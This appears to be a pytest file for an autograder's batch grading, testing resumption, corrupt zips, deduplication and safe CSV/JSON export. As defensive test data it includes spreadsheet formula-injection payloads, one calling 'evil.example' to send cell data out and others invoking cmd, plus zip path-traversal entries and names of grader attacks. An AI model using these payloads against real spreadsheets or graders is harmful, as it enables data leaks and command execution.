"""Batch grading of a class: a mixed class of 20 grades to the expected gradebook, unreadable
submissions are skipped, identical ones are graded once, and an interrupted batch resumes."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from conftest import ROOT, course_command

from autograder.classgrading import batch
from autograder.classgrading.batch import Progress, Settings, grade_batch
from autograder.classgrading.blas_threads import blas_threads, set_blas_threads
from autograder.classgrading.gradebook import Gradebook, export, file_names
from autograder.cli.validate import mistake_problem
from autograder.execution import sandbox
from autograder.grading.mistake_registry import all_mistakes, load_mistakes, write_mutant

TASKS = ("sigmoid_forward", "tanh_forward", "relu_forward", "sgd")
MISTAKES = (
    "sigmoid_forward_naive_exp",
    "sigmoid_forward_in_float32",
    "sigmoid_forward_branches_swapped",
    "relu_forward_overwrites_x",
    "sgd_ignores_weight_decay",
    "sgd_updates_w_in_place",
)
ATTACKS = (
    "patch_numpy",
    "patch_grader",
    "ndarray_subclass",
    "always_equal",
    "exit_during_call",
    "infinite_loop",
    "nan_results",
    "forge_protocol",
)
SETTINGS = Settings(TASKS, "quick", limits=sandbox.Limits(timeout=3, memory_mb=512))


def _zip(folder: Path, archive: Path, inside: str) -> Path:
    with zipfile.ZipFile(archive, "w") as bundle:
        for path in sorted(folder.rglob("*.py")):
            bundle.write(path, f"{inside}/{path.relative_to(folder)}")
    return archive


def build_class(course, root: Path):
    """(paths, what each student's tasks must score, unreadable paths)."""
    paths, expected = [], {}
    full = {t: course.task(t).points for t in TASKS}
    ignore = shutil.ignore_patterns("__pycache__")
    # correct: the reference as a course tree, as loose files and as an LMS zip (the same files,
    # graded once), and the two alternative students of the example class
    shutil.copytree(ROOT / "solutions", root / "alice" / "assignments", ignore=ignore)
    (root / "bob").mkdir()
    for path in (ROOT / "solutions").rglob("*.py"):
        if path.name != "__init__.py":
            shutil.copy(path, root / "bob" / path.name)
    _zip(ROOT / "solutions", root / "carol.zip", "carol-submission")
    for name in ("ada", "ben"):
        shutil.copytree(ROOT / "examples/class" / name, root / name, ignore=ignore)
    for name in ("alice", "bob", "carol.zip", "ada", "ben"):
        paths.append(root / name)
        expected[name.removesuffix(".zip")] = full
    # mistaken: the reference with one known mistake (the last one handed in as a zip)
    load_mistakes([a.id for a in course.assignments])
    mistakes = {m.name: m for m in all_mistakes()}
    for name in MISTAKES:
        write_mutant(course, mistakes[name], root / f"m-{name}")
        paths.append(root / f"m-{name}")
        expected[f"m-{name}"] = mistakes[name]
    paths[-1] = _zip(paths[-1], root / f"{paths[-1].name}.zip", "upload")
    # malicious: from the adversarial corpus; tasks an attack does not define get nothing
    for attack in ATTACKS:
        shutil.copytree(ROOT / "tests/adversarial" / attack, root / f"x-{attack}")
        paths.append(root / f"x-{attack}")
        scores = yaml.safe_load((ROOT / "tests/adversarial" / attack / "attack.yml").read_text())["scores"]
        expected[f"x-{attack}"] = {t: scores.get(t, 0) for t in TASKS}
    # not started: the stubs
    shutil.copytree(ROOT / "assignments", root / "dora" / "assignments", ignore=ignore)
    paths.append(root / "dora")
    expected["dora"] = {t: 0 for t in TASKS}
    # unreadable: an empty folder, a broken zip, a path that does not exist
    (root / "empty").mkdir()
    (root / "broken.zip").write_bytes(b"PK\x03\x04 this is not a zip")
    unreadable = [root / "empty", root / "broken.zip", root / "missing"]
    return paths, expected, unreadable


def check_result(student: str, result: dict, expected) -> None:
    tasks = {t["task"]: t for t in result["tasks"]}
    assert list(tasks) == list(TASKS)
    if isinstance(expected, dict):
        assert {t: tasks[t]["score"] for t in TASKS} == expected, student
    else:  # a known mistake: loses points on its task with its hint; the rest of its assignment and
        # the assignments before it (handed in as reference files) are right, later ones absent
        assert mistake_problem(expected, tasks[expected.task]) is None, student
        order = ("a0_foundations", "a1_optimizers")  # the course order of TASKS' assignments
        for name, task in tasks.items():
            if name != expected.task:
                handed_in = order.index(task["assignment"]) <= order.index(tasks[expected.task]["assignment"])
                assert task["score"] == (task["max_score"] if handed_in else 0), (student, name)
                assert handed_in or task["status"] == "not_started", (student, name)


@pytest.mark.slow
def test_a_grader_on_one_cpu_has_one_blas_thread_and_gets_its_threads_back():
    before = set_blas_threads(2)  # OpenBLAS may give fewer, on a machine of one CPU
    threads = blas_threads()
    try:
        assert before is not None and threads is not None  # numpy's OpenBLAS is found and told
        with batch._on_one_cpu(Settings(isolated=True)):
            assert blas_threads() == 1 and len(os.sched_getaffinity(0)) == 1
        assert blas_threads() == threads
        with batch._on_one_cpu(Settings(isolated=False)):  # in-process grading keeps every thread
            assert blas_threads() == threads
    finally:
        set_blas_threads(before or 1)


def test_a_mixed_class_grades_to_the_expected_gradebook_and_resumes(course, tmp_path, capsys):
    paths, expected, unreadable = build_class(course, tmp_path / "class")
    assert len(paths) == 20
    book_path = tmp_path / "gradebook.sqlite"
    # a first run over part of the class, as if the batch had been stopped there
    book = Gradebook(book_path)
    first = grade_batch(course, paths[:8] + unreadable[:1], SETTINGS, jobs=2, gradebook=book)
    book.close()
    assert first.reused == 0 and len(first.graded) == 8
    stamps = {e.key: Gradebook(book_path).graded_at(e.key) for e, _ in first.graded}
    # the whole class: the first eight come from the gradebook, the rest is graded
    book = Gradebook(book_path)
    outcome = grade_batch(course, paths + unreadable, SETTINGS, jobs=2, gradebook=book, progress=Progress(23))
    book.close()
    assert outcome.reused == 8
    assert {e.key: Gradebook(book_path).graded_at(e.key) for e, _ in first.graded} == stamps
    assert [e.student for e, _ in outcome.graded] == list(expected)
    for entry, result in outcome.graded:
        check_result(entry.student, result, expected[entry.student])
    # alice, bob and carol handed in the same files: one result, three students
    keys = {e.student: e.key for e, _ in outcome.graded}
    assert keys["alice"] == keys["bob"] == keys["carol"] != keys["ada"]
    # unreadable submissions are reported and skipped
    assert [(e.student, e.problem) for e in outcome.problems] == [
        ("empty", f"{unreadable[0]}: none of the course's files found"),
        ("broken", f"{unreadable[1]}: not a readable zip file (File is not a zip file)"),
        ("missing", f"{unreadable[2]}: no such file or folder"),
    ]
    progress = capsys.readouterr().err
    assert progress.count("(already graded)") == 8 and "[23/23]" in progress
    # the gradebook holds every result once, and which student handed in what
    with sqlite3.connect(book_path) as db:
        assert db.execute("SELECT COUNT(*) FROM results").fetchone()[0] == 18
        assert db.execute("SELECT COUNT(DISTINCT student) FROM submissions").fetchone()[0] == 20
        assert db.execute("SELECT COUNT(*) FROM problems WHERE student = 'empty'").fetchone()[0] == 2
        stored = dict(db.execute("SELECT s.student, r.result FROM submissions s JOIN results r USING (key)"))
    assert {s: json.loads(r) for s, r in stored.items()} == {e.student: r for e, r in outcome.graded}
    # exports: one CSV row per student (unreadable ones with 0 points and why), and per-student
    # JSON and Gradescope results
    export(
        [(e.student, r) for e, r in outcome.graded],
        tmp_path / "out",
        [(e.student, e.problem) for e in outcome.problems],
    )
    with open(tmp_path / "out/grades.csv", newline="", encoding="utf-8-sig") as table:
        rows = list(csv.DictReader(table))
    assert [r["student"] for r in rows] == list(expected) + ["empty", "broken", "missing"]
    for row, (entry, result) in zip(rows, outcome.graded):
        assert float(row["score"]) == result["score"] and row["problem"] == ""
        assert float(row["a1_optimizers/sgd"]) == next(t["score"] for t in result["tasks"] if t["task"] == "sgd")
        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text()) == {
            "student": entry.student,
            **result,
        }
        assert json.loads((tmp_path / f"out/gradescope/{entry.student}.json").read_text())["score"] == result["score"]
    for row, entry in zip(rows[len(outcome.graded) :], outcome.problems):
        assert (float(row["score"]), float(row["a1_optimizers/sgd"]), row["problem"]) == (0, 0, entry.problem)
        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text())["problem"] == entry.problem


def _graded_rows(book: Path) -> dict[str, str]:
    try:
        with sqlite3.connect(book) as db:
            return dict(db.execute("SELECT key, graded_at FROM results"))
    except sqlite3.OperationalError:  # not created yet
        return {}


@pytest.mark.slow
def test_a_killed_batch_resumes_without_regrading(tmp_path):
    """`course grade` killed after its first result: run again, it grades only the rest."""
    source = (ROOT / "solutions/a1_optimizers/optimizers.py").read_text()
    paths = []
    for i in range(5):  # five different (correct) submissions
        (tmp_path / f"s{i}").mkdir()
        (tmp_path / f"s{i}/optimizers.py").write_text(f"{source}\n# student {i}\n")
        paths.append(str(tmp_path / f"s{i}"))
    book = tmp_path / "book.sqlite"
    command = [
        sys.executable,
        "-m",
        "autograder",
        "grade",
        *paths,
        "--only",
        "sgd",
        "momentum",
        "--quick",
        "--jobs",
        "1",
        "--gradebook",
        str(book),
    ]
    (tmp_path / "tmp").mkdir()  # what the killed run cannot clean up stays here
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path / "tmp")}
    batch = subprocess.Popen(
        command, cwd=ROOT, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    for _ in range(2400):
        if _graded_rows(book):
            break
        time.sleep(0.05)
    os.killpg(batch.pid, signal.SIGKILL)
    batch.wait()
    before = _graded_rows(book)
    assert 1 <= len(before) < 5
    rerun = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True)
    assert rerun.returncode == 0, rerun.stderr
    assert rerun.stderr.count("(already graded)") == len(before)
    after = _graded_rows(book)
    assert len(after) == 5 and all(after[key] == stamp for key, stamp in before.items())
    assert rerun.stdout.count("total 3/3") == 5


@pytest.mark.parametrize(
    "content, words",
    [
        (b"", "not a readable zip file"),
        (None, "none of the course's files found"),
        ("huge", "larger than 2 MiB"),
    ],
)
def test_an_unreadable_zip_is_skipped_not_fatal(course, tmp_path, content, words):
    archive = tmp_path / "upload.zip"
    if content is None:  # a zip holding only unsafe or foreign paths
        with zipfile.ZipFile(archive, "w") as bundle:
            bundle.writestr("../../escape/foundations.py", "x = 1\n")
            bundle.writestr("/absolute/optimizers.py", "x = 1\n")
            bundle.writestr("notes.txt", "hello")
    elif content == "huge":  # a file no student writes, which would fill the worker's folder
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
            bundle.writestr("foundations.py", "#" * (3 * 2**20))
    else:
        archive.write_bytes(content)
    outcome = grade_batch(course, [archive], SETTINGS)
    assert outcome.graded == [] and words in outcome.problems[0].problem
    assert not (tmp_path.parent / "escape").exists()


HONEST = (ROOT / "solutions/a0_foundations/foundations.py").read_text()
IN_PROCESS = Settings(("relu_forward",), "quick", isolated=False)


def _corrupt_zip(archive: Path, kind: str) -> Path:
    """A zip of a correct foundations.py whose member cannot be read: its compressed data garbled
    (deflate: zlib.error, bzip2: OSError, lzma: LZMAError) or its method unknown (NotImplementedError)."""
    method = {"deflate": zipfile.ZIP_DEFLATED, "bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.get(
        kind, zipfile.ZIP_STORED
    )
    with zipfile.ZipFile(archive, "w", method) as bundle:
        bundle.writestr("foundations.py", HONEST)
    data = bytearray(archive.read_bytes())
    if kind == "method":
        central = data.rfind(b"PK\x01\x02")
        data[8:10] = data[central + 10 : central + 12] = (99).to_bytes(2, "little")
    else:
        start = 30 + len("foundations.py")  # the only member's data follows its local header
        data[start + 8 : start + 40] = b"\xff" * 32
    archive.write_bytes(bytes(data))
    return archive


@pytest.mark.parametrize(
    "kind, words",
    [
        ("deflate", "not a readable zip file (Error -3 while decompressing data"),
        ("bzip2", "not a readable zip file (Invalid data stream)"),
        ("lzma", "not a readable zip file (Corrupt input data)"),
        ("method", "not a readable zip file (That compression method is not supported)"),
        ("unreadable", "cannot be read (PermissionError: [Errno 13] Permission denied"),
    ],
)
def test_a_submission_that_cannot_be_read_is_its_problem_not_the_batch(course, tmp_path, monkeypatch, kind, words):
    (tmp_path / "honest").mkdir()
    (tmp_path / "honest/foundations.py").write_text(HONEST)
    if kind == "unreadable":  # as if its owner had taken read permission away (the tests may run as root)
        (tmp_path / "locked").mkdir()
        (tmp_path / "locked/foundations.py").write_text(HONEST)
        read_bytes = Path.read_bytes

        def refuse(path):
            if "locked" in path.parts:
                raise PermissionError(13, "Permission denied", str(path))
            return read_bytes(path)

        monkeypatch.setattr(Path, "read_bytes", refuse)
        bad = tmp_path / "locked"
    else:
        bad = _corrupt_zip(tmp_path / "bad.zip", kind)
    book = tmp_path / "book.sqlite"
    for run in range(2):  # the rerun goes on from the gradebook, as far as the first
        gradebook = Gradebook(book)
        outcome = grade_batch(course, [bad, tmp_path / "honest"], IN_PROCESS, gradebook=gradebook)
        gradebook.close()
        assert [(e.student, r["score"]) for e, r in outcome.graded] == [("honest", 1.0)]
        assert outcome.reused == run
        assert [e.student for e in outcome.problems] == [bad.stem] and words in outcome.problems[0].problem
    with sqlite3.connect(book) as db:
        assert db.execute("SELECT COUNT(*) FROM problems WHERE student = ?", (bad.stem,)).fetchone()[0] == 2


def test_a_file_name_that_is_not_text_is_graded_and_shown_escaped(course, tmp_path):
    folder = Path(os.fsdecode(str(tmp_path).encode() + b"/st\xffu\x1b[2Jdent"))  # undecodable byte, escape code
    folder.mkdir()
    (folder / "foundations.py").write_text(HONEST)
    book = Gradebook(tmp_path / "book.sqlite")
    outcome = grade_batch(course, [folder], IN_PROCESS, gradebook=book)
    book.close()
    [(entry, result)] = outcome.graded
    assert entry.student == "st\\udcffu\\x1b[2Jdent" and result["score"] == 1.0
    written = export([(entry.student, result)], tmp_path / "out")
    assert (tmp_path / "out/results/st_udcffu_x1b[2Jdent.json") in written


def _result(score: float) -> dict:
    return {
        "score": score,
        "max_score": 1.0,
        "profile": "quick",
        "timing": {"seconds": 0.1},
        "tasks": [
            {
                "assignment": "a0_foundations",
                "task": "relu_forward",
                "score": score,
                "max_score": 1.0,
                "status": "passed",
                "checks": [],
            }
        ],
    }


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(tmp_path):
    export([(name, _result(-1.5)) for name in FORMULAS], tmp_path, [("=cmd|' /C calc'!A0", "=1+1 broken")])
    raw = (tmp_path / "grades.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # utf-8-sig: Excel reads the names as UTF-8
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8-sig") as table:
        rows = list(csv.reader(table))[1:]
    # a leading tab or carriage return is shown as a visible escape, which no spreadsheet runs
    assert [r[0] for r in rows] == ["'" + name for name in FORMULAS[:4]] + [
        "\\x09=1+1",
        "\\x0d=1+1",
        "'=cmd|' /C calc'!A0",
    ]
    # a negative number is a number: the total, the assignment's subtotal and the task's points
    assert all(r[1] == "-1.5" and r[3] == "-1.5" and r[4] == "-1.5" for r in rows[:-1])
    assert rows[-1][1:] == ["0.0", "1.0", "0.0", "0.0", "'=1+1 broken"]
    assert not [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-") and cell != "-1.5"
    ]


def test_export_file_names_keep_every_script_and_never_collapse(tmp_path):
    students = [
        "김민수",
        "박지훈",
        "이영희",
        "Zoë",
        "a/b",
        "a:b",
        "Alice",
        "alice",
        "",
        "???",
        "CON",
        ".hidden",
        "\u1100\u1161",
    ]  # the last: 가 in decomposed form (as macOS file names have it)
    names = file_names(students)
    assert names[:4] == ["김민수", "박지훈", "이영희", "Zoë"] and names[10:12] == ["_CON", "hidden"]
    assert len({n.casefold() for n in names}) == len(students)  # distinct, even on a case-blind file system
    assert names[4].startswith("a_b-") and names[6].startswith("Alice-") and names[8].startswith("student-")
    assert names[12] == "가"
    # stable: the same names in any order; only a clash changes a name, the fallback never
    assert file_names(list(reversed(students))) == list(reversed(names))
    assert file_names(["a/b", "x"])[0] == "a_b" and file_names(["", "x"])[0] == names[8]
    export([(s, _result(1.0)) for s in students], tmp_path)
    for student, name in zip(students, names):
        assert json.loads((tmp_path / "results" / f"{name}.json").read_text())["student"] == student


def test_a_class_with_a_corrupt_zip_formula_and_korean_names_is_graded_and_exported_whole(course, tmp_path):
    """`course grade class/* --export`: everyone gets a CSV row and a result file of their own,
    the honest are graded as they deserve, and the rerun does the same from the gradebook."""
    wrong_relu = HONEST.replace(
        "return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()", "return np.abs(x), x.copy()"
    )
    assert wrong_relu != HONEST
    root = tmp_path / "class"
    students = {"김민수": HONEST, "이영희": wrong_relu, '=HYPERLINK("evil.example","click")': HONEST}
    for name, source in students.items():
        (root / name).mkdir(parents=True)
        (root / name / "foundations.py").write_text(source)
    with zipfile.ZipFile(root / "박지훈.zip", "w") as bundle:
        bundle.writestr("submission/foundations.py", HONEST)
    with zipfile.ZipFile(root / "@SUM(1+9)*cmd|calc.zip", "w") as bundle:
        bundle.writestr("foundations.py", HONEST)
    _corrupt_zip(root / "corrupt.zip", "deflate")
    paths = sorted(root.iterdir())
    out, book = tmp_path / "export", tmp_path / "book.sqlite"
    command = [
        "grade",
        *paths,
        "--only",
        "relu_forward",
        "sigmoid_forward",
        "--quick",
        "--jobs",
        "1",
        "--gradebook",
        book,
        "--export",
        out,
        "--format",
        "json",
        "--out",
        tmp_path / "results.json",
    ]
    for run in range(2):
        ran = course_command(*command)
        assert ran.returncode == 0, ran.stderr
        assert ran.stderr.count("(already graded)") == 5 * run
        with open(out / "grades.csv", newline="", encoding="utf-8-sig") as table:
            rows = {row["student"]: row for row in csv.DictReader(table)}
        assert set(rows) == {
            "김민수",
            "이영희",
            "박지훈",
            '\'=HYPERLINK("evil.example","click")',
            "'@SUM(1+9)*cmd|calc",
            "corrupt",
        }
        scores = {
            name: (float(r["score"]), r["a0_foundations/relu_forward"], r["problem"][-60:]) for name, r in rows.items()
        }
        assert scores["김민수"] == scores["박지훈"] == scores["'@SUM(1+9)*cmd|calc"] == (3.0, "1.0", "")
        assert scores["이영희"] == (2.0, "0.0", "")  # |x| for relu: wrong values; its purity pays only with them
        assert (
            scores["corrupt"][:2] == (0.0, "0.0") and "Error -3 while decompressing data" in rows["corrupt"]["problem"]
        )
        files = sorted(p.name for p in (out / "results").iterdir())
        assert files == sorted(
            [
                "김민수.json",
                "이영희.json",
                "박지훈.json",
                "=HYPERLINK(_evil.example_,_click_).json",
                "@SUM(1+9)_cmd_calc.json",
                "corrupt.json",
            ]
        )
        named = {json.loads((out / "results" / f).read_text())["student"] for f in files}
        assert named == {
            "김민수",
            "이영희",
            "박지훈",
            '=HYPERLINK("evil.example","click")',
            "@SUM(1+9)*cmd|calc",
            "corrupt",
        }
        assert len(list((out / "gradescope").iterdir())) == 6
    listed = json.loads((tmp_path / "results.json").read_text())["submissions"]
    assert [s["student"] for s in listed] == [p.name.removesuffix(".zip") for p in paths if p.name != "corrupt.zip"]


ATTACKERS = ("premature_reply", "nested_reply_flood", "escape_codes", "huge_string_result", "forged_array_frame",
             "sleeping_calls")  # fmt: skip


@pytest.mark.slow
def test_a_class_with_one_of_each_attack_finishes_and_exports_everyone(course_copy, tmp_path):
    """Ten students: three honest ones (a Korean name, a formula for a name), a corrupt zip, and
    a forged early reply, a flood of nested lists, escape codes, an 8-MiB-class string, a forged
    array frame and calls that sleep just under the limit per call. The batch finishes within its
    budgets, every honest student gets every point, no attacker more than its attack note allows,
    and everyone is exported."""
    manifest = course_copy / "course.yml"
    manifest.write_text(
        manifest.read_text().replace(
            "budgets: {check_seconds: 120, submission_seconds: 1500}",
            "budgets: {check_seconds: 5, submission_seconds: 12}",
        )
    )
    root = tmp_path / "class"
    honest = {"ada": HONEST, "김민수": HONEST, '=HYPERLINK("evil.example","click")': HONEST}
    for name, source in honest.items():
        (root / name).mkdir(parents=True)
        (root / name / "foundations.py").write_text(source)
    for attack in ATTACKERS:
        shutil.copytree(ROOT / "tests" / "adversarial" / attack, root / attack, ignore=shutil.ignore_patterns("*.yml"))
    _corrupt_zip(root / "corrupt.zip", "deflate")
    out = tmp_path / "export"
    tasks = ("relu_forward", "sigmoid_forward")
    ran = course_command(
        "--course", course_copy, "grade", *sorted(root.iterdir()), "--only", *tasks, "--quick", "--jobs", "2",
        "--timeout", "3", "--memory", "512", "--export", out, "--format", "json", "--out", tmp_path / "results.json",
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    with open(out / "grades.csv", newline="", encoding="utf-8-sig") as table:
        rows = {row["student"]: row for row in csv.DictReader(table)}
    assert len(rows) == 10 and "corrupt" in rows and rows["corrupt"]["problem"]
    for name in ("ada", "김민수", '\'=HYPERLINK("evil.example","click")'):
        assert float(rows[name]["score"]) == 3.0, rows[name]
    for attack in ATTACKERS:
        allowed = yaml.safe_load((ROOT / "tests" / "adversarial" / attack / "attack.yml").read_text())["scores"]
        for task in tasks:
            assert float(rows[attack][f"a0_foundations/{task}"]) <= allowed.get(task, 0), (attack, task)
    named = {json.loads(path.read_text(encoding="utf-8"))["student"] for path in (out / "results").iterdir()}
    assert len(named) == 10 and "김민수" in named
    assert all(path.stat().st_size < 100_000 for path in out.rglob("*.json"))  # no flood reaches an export
